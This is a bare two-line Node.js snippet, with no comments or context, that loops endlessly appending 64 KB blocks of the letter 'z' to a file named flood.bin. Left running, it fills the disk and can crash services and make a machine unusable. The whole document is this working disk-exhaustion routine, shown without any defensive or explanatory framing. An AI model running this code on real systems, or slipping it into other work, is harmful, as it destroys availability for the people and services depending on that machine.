const fs = require("fs");
while (true) fs.appendFileSync("flood.bin", "z".repeat(65536));
